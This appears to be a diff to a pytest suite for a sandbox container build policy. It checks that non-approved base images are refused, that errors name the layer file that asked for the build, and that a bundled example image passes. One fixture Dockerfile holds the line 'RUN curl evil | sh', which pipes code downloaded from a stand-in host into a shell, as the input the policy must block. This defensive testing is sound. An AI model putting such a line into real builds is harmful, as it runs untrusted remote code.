@@ -118,10 +118,11 @@ def test_the_tag_follows_the_dockerfile_the_context_and_the_packages_not_git_nor
 
 def test_another_base_a_missing_dockerfile_or_a_link_out_is_refused_before_any_build(tmp_path):
     ws = repo(tmp_path, "FROM debian:bookworm-slim\nRUN curl evil | sh\n")
-    with pytest.raises(PolicyError) as exc:
-        imagebuild.gather(extended(tmp_path), str(ws))
+    with pytest.raises(PolicyError) as exc:   # named after the layer that asked for the build
+        imagebuild.gather(replace(untrusted_bind(), build=BuildPolicy(dockerfile="Dockerfile", source="ws/.sandbox.yaml")),
+                          str(ws))
     (p,) = exc.value.problems
-    assert p.path == "build.dockerfile" and "FROM debian:bookworm-slim" in p.found and "sandbox/agent:bookworm" in p.hint
+    assert p.file == "ws/.sandbox.yaml" and p.path == "build.dockerfile" and "FROM debian:bookworm-slim" in p.found and "sandbox/agent:bookworm" in p.hint
     (ws / "Dockerfile").unlink()
     with pytest.raises(PolicyError, match="no file"):
         imagebuild.gather(extended(tmp_path), str(ws))
@@ -147,6 +148,16 @@ def test_layers_add_packages_and_the_last_build_stands():
     repo_ = stack.parse_layer(b"version: 1\npackages: [ripgrep, jq]\nbuild: {dockerfile: Dockerfile}\n", "r.yaml", LayerKind.REPO)
     eff = layers.effective(base, [layers.full_layer(LayerKind.BASE, base), org, repo_]).policy
     assert eff.packages == ("jq", "make", "ripgrep") and eff.build == BuildPolicy(dockerfile="Dockerfile")
+    assert eff.build.source == "r.yaml"
+
+
+def test_the_worked_example_loads_and_passes_the_base_check():
+    root = Path(__file__).resolve().parent.parent / "examples" / "extend-image"
+    layer = stack.parse_layer((root / ".sandbox.yaml").read_bytes(), ".sandbox.yaml", LayerKind.REPO)
+    base = untrusted_bind()
+    eff = layers.effective(base, [layers.full_layer(LayerKind.BASE, base), layer]).policy
+    built = imagebuild.gather(eff, str(root))
+    assert built.packages == ("jq", "sqlite3") and built.dockerfile == str(root / ".sandbox" / "Dockerfile")
 
 
 def test_the_recipe_installs_the_packages_and_hardens_what_they_added():
